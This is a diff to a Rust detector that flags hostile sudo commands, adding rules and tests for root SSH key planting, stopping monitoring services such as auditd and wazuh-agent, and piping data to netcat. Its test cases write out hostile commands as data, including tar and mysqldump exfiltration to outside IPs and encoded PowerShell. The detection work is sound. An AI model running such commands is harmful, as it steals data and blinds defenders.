@@ -66,6 +66,9 @@ const SIGNS: &[(&[&str], &str)] = &[
     (&["unset ", "histfile"], REMOVES_TRACES),
     (&["histfile=/dev/null"], REMOVES_TRACES),
     (&["shred ", "/var/log/"], REMOVES_TRACES),
+    (&["tee ", "/root/.ssh/authorized_keys"], LETS_A_KEY_IN),
+    (&[">> /root/.ssh/authorized_keys"], LETS_A_KEY_IN),
+    (&[">>/root/.ssh/authorized_keys"], LETS_A_KEY_IN),
     (&["set-mppreference", "-disable", "true"], REMOVES_TRACES),
 ];
 
@@ -80,8 +83,29 @@ const HIDES_WHAT_RUNS: &str = "the command hides what it runs";
 const TAKES_PASSWORDS: &str = "the command takes stored passwords";
 const REMOVES_WAYS_BACK: &str = "the command removes the ways back to saved data";
 const WRITES_A_PROGRAM: &str = "the query writes a program into a file";
+const SENDS_AWAY: &str = "the command packs data and sends it to another machine";
+const LETS_A_KEY_IN: &str = "the command lets another key in as root";
 const LEAVES_THE_DATABASE: &str = "the query runs a program outside the database";
 const REMOVES_TRACES: &str = "the command removes traces or switches off a defence";
+
+/// What ends a service.
+const STOPS: &[&str] = &["stop", "disable", "mask", "kill"];
+
+/// Services that watch a machine and report elsewhere.
+const WATCHERS: &[&str] = &[
+    "wazuh-agent",
+    "ossec",
+    "auditd",
+    "osqueryd",
+    "falcon-sensor",
+    "sysmon",
+    "falco",
+    "filebeat",
+    "auditbeat",
+    "elastic-agent",
+    "mdatp",
+    "rsyslog",
+];
 
 /// Where Linux keeps passwords.
 const PASSWORDS: &str = "/etc/shadow";
@@ -129,9 +153,25 @@ fn sign(line: &str) -> Option<(usize, &'static str)> {
     by_words
         .or_else(|| shell::netcat(line))
         .or_else(|| shell::unread(line))
+        .or_else(|| shell::sent_away(line))
+        .or_else(|| Some((stopped_defence(line)?, REMOVES_TRACES)))
         .or_else(|| rights::given_away(line))
         .or_else(|| fetched(line))
         .or_else(|| Some((passwords(line)?, TAKES_PASSWORDS)))
+}
+
+/// Finds where a service that watches the machine is stopped: an upgrade restarts it.
+fn stopped_defence(line: &str) -> Option<usize> {
+    ["systemctl ", "service "].iter().find_map(|program| {
+        let at = place(line, program)?;
+        let own = template::head(line.get(at..)?, FRAGMENT_BYTES_MAX);
+        let own = own.split(['|', ';', '&']).next().unwrap_or_default();
+        let mut words = own.split([' ', '\'', '"']);
+        let is_stopped = words.any(|word| STOPS.contains(&word));
+        let is_watcher =
+            |word: &str| WATCHERS.contains(&word.strip_suffix(".service").unwrap_or(word));
+        (is_stopped && own.split([' ', '\'', '"']).any(is_watcher)).then_some(at)
+    })
 }
 
 /// Finds where PowerShell runs what it fetches. Both are whole words: programs have names that begin with them.
@@ -227,6 +267,12 @@ mod tests {
             "/usr/sbin/useradd -o -u 0 -g 0 toor",
             "ln -sf /dev/null ~/.bash_history",
             "bash -c 'unset HISTFILE; id'",
+            "/usr/bin/systemctl stop wazuh-agent",
+            "systemctl disable --now auditd.service",
+            "/usr/sbin/service wazuh-agent stop",
+            "/usr/bin/tee -a /root/.ssh/authorized_keys",
+            "/bin/sh -c tar czf - /srv/customers | nc 193.5.6.7 9001",
+            "mysqldump --all-databases | gzip | ncat 198.51.100.7 443",
             "/usr/bin/shred -u /var/log/auth.log",
             "powershell.exe -w hidden -e SQBFAFgA",
             "exec_create: sh -c echo aWQ= | base64 -d | sh",
@@ -256,6 +302,13 @@ mod tests {
             "/usr/sbin/useradd -m -u 1001 carol",
             "/usr/bin/tail -n 50 /var/log/auth.log",
             "/usr/bin/rm /var/log/nginx/access.log.9.gz",
+            "/usr/bin/systemctl restart wazuh-agent",
+            "/usr/bin/systemctl stop nginx; systemctl status auditd",
+            "/usr/bin/systemctl stop auditd-report.timer-x nginx && true",
+            "/usr/bin/tee -a /home/bob/.ssh/authorized_keys",
+            "/bin/sh -c echo ruok | nc 127.0.0.1 2181",
+            "/bin/sh -c mysqldump shop | gzip > /srv/shop.gz",
+            "/bin/sh -c tar czf /srv/a.tgz /etc; nc -z 127.0.0.1 80",
         ] {
             assert_eq!(told(&sudo(command)), ("5402".to_owned(), None), "{command}");
         }
